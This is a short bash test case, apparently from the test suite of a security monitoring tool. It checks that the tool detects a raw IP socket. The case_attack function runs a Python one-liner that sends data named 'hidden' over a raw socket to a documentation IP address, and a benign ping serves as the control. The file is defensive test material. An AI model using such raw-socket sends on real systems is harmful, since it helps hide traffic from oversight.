# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='a raw IP socket'
case_class=A
case_prepare() {
	run app pg-many python3 -c 'import time; time.sleep(9999)'
	# ping's is a datagram socket
	run pings pg-many sh -c 'while sleep 0.5; do ping -c 1 -W 1 203.0.113.9; done'
}
case_benign() { in_ pings ping -c 1 -W 1 203.0.113.9; }
case_attack() {
	in_ app python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253); s.sendto(b"hidden", ("203.0.113.9", 0))'
}
case_expect='socket.raw A28raw-app /usr/bin/python3* *'
